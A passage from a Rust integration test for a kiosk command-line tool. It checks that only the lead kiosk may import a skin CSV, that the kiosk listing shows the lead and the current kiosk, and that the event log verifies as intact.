    assert!(walk_in(&tent2).contains("B-20001"));
    assert!(
        walk_in(&lead).contains("B-0171"),
        "the lead's follow the skin"
    );

    // Only the lead imports the skin.
    let refused = kiosk(
        &tent,
        &["import", fixture("demo/skin.csv").to_str().unwrap()],
    );
    assert!(!refused.status.success());
    let err = String::from_utf8_lossy(&refused.stderr);
    assert!(
        err.contains("not the production's lead") && err.contains("Base camp (base)"),
        "{err}"
    );
    let listed = ok(&tent, &["kiosks"]);
    assert!(listed.contains("base (Base camp), lead"), "{listed}");
    assert!(
        listed.contains("tent1 (Tent 1)") && listed.contains("<- this kiosk"),
        "{listed}"
    );

    // Each chain is whole on the joined kiosk: the lead's events it copied,
    // its own after them.
    let verified = ok(&tent, &["log", "--verify"]);
    assert!(verified.contains("The log is intact"), "{verified}");
    assert!(verified.contains("kiosk tent1: 2"), "{verified}");
}
